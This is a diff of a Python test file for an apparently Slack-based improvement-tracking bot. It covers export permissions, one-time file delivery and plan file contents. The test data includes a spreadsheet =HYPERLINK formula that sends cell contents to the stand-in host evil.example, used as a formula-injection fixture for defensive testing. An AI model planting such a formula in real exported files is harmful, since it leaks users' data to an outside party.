@@ -1,17 +1,18 @@
 """Exports and plans: what is in the files, who gets them, and that each comes once."""
 
 from datetime import UTC, datetime
+from decimal import Decimal
 from typing import Any
 
 import pytest
 
-from models import Improvement, Outbox, Team
-from models.enums import QueueState, Step
+from models import Improvement, Kpi, Outbox, Team
+from models.enums import ClosureCode, QueueState, State, Step
 from tests.conftest import Bot
 from tests.support.commands import csi
 from tests.support.files import content, csv_tables, shared_files, sheets
 from tests.support.slack import BEN, CHLOE, LEO, MIA, Slack
-from tests.support.story import answer, captured, closed, in_progress, rows, take
+from tests.support.story import answer, captured, closed, in_progress, read, rows, take
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Prize") opens when our list is exported'
 
@@ -65,7 +66,7 @@ def test_an_export_follows_filters_and_roles_and_comes_once_although_it_is_kille
     assert "Only managers and leadership can export" in csi(slack, BEN, "export")
     assert "nothing to export" in csi(slack, MIA, "export on hold")
     csi(slack, MIA, "export declined")
-    csi(slack, CHLOE, "export")
+    assert "Only Ops" in csi(slack, CHLOE, "export")
     bot.flush()
     chosen, of_team = (csv_tables(content(shared_files(slack, who)[-1])) for who in (MIA, CHLOE))
     assert [row["Idea"] for row in chosen["register"]] == ["The lift is slow"]
@@ -129,6 +130,18 @@ def test_a_plan_is_one_file_that_shows_peoples_words_as_they_are(slack: Slack, b
     assert "## Risk" in text
     assert "## History" in text
     assert "## Value" not in text
+    assert "- **Now:** not measured yet" in text
+
+    with bot.db.begin() as session:
+        session.get_one(Kpi, 1).tolerance_high = Decimal(10)
+    read(bot, "16")
+    with bot.db.begin() as session:
+        session.get_one(Improvement, 2).closure_code = ClosureCode.WITHDRAWN
+        session.get_one(Improvement, 2).state = State.CLOSED
+    csi(slack, BEN, "export 2")
+    bot.flush()
+    made = content(shared_files(slack, BEN)[-1]).decode()
+    assert "- **State:** closed as withdrawn\n- **Idea by:** a KPI that was out of tolerance\n" in made
 
     slack.command(MIA, "/csi", "1")
     slack.messages(MIA, "C01GENERAL")[-1].press("Plan as a file", by=MIA)
